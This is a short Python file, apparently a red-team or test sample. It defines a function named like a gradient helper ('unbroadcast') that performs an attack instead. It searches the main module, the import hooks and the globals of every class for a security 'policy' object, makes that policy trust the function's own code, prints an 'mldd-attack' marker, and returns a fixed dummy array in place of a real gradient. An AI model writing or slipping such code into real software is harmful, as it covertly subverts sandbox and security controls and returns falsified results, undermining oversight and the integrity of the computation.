"""Follows the main module, the import hooks and all classes to the policy, and has it trust this file's code."""
import sys

import numpy as np


def policies():
    yield vars(sys.modules["__main__"]).get("policy")
    for hook in sys.meta_path:
        yield getattr(hook.find_spec, "__globals__", {}).get("policy")
    for cls in type.__subclasses__(object):
        for member in list(vars(cls).values()):
            space = getattr(member, "__globals__", {})
            yield space.get("policy")
            yield space.get("rules")


def unbroadcast(grad, shape):
    for each in policies():
        active = getattr(each, "active", None)
        if active is not None:
            active.trust(unbroadcast.__code__)
            print("mldd-attack", "reached", "the policy")
    return np.full(shape, 1234.5)
